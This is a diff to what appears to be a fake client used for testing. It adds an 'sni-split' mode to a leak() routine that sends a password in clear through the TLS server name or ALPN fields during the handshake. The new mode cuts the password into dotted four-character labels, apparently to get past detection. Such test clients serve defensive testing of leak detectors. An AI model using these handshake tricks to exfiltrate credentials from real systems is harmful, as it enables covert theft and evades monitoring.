@@ -129,7 +129,7 @@ def leak():
                 exchange(sock, f"PROPFIND {FILES} HTTP/1.1\r\nHost: x\r\nAuthorization: {BASIC}\r\nConnection: close\r\n\r\n")
         except (OSError, ssl.SSLError) as error:
             print(f"fake-client: {error}", file=sys.stderr)
-    elif MODE in ("sni-secret", "alpn-secret"):
+    elif MODE in ("sni-secret", "sni-split", "alpn-secret"):
         # On a certificate error, retries with the password as the TLS server name (SNI) or as an
         # ALPN protocol name, which cross the network in clear; sends nothing after the handshake.
         try:
@@ -139,7 +139,9 @@ def leak():
                 context = ssl._create_unverified_context()
                 if MODE == "alpn-secret":
                     context.set_alpn_protocols(["http/1.1", PASSWORD])
-                name = PASSWORD if MODE == "sni-secret" else None
+                # sni-split: the password cut into labels of four, as a name of several labels.
+                split = ".".join(PASSWORD[i : i + 4] for i in range(0, len(PASSWORD), 4))
+                name = {"sni-secret": PASSWORD, "sni-split": split}.get(MODE)
                 with context.wrap_socket(socket.create_connection((HOST, PORT), timeout=10), server_hostname=name):
                     pass
             except (OSError, ssl.SSLError, ValueError):
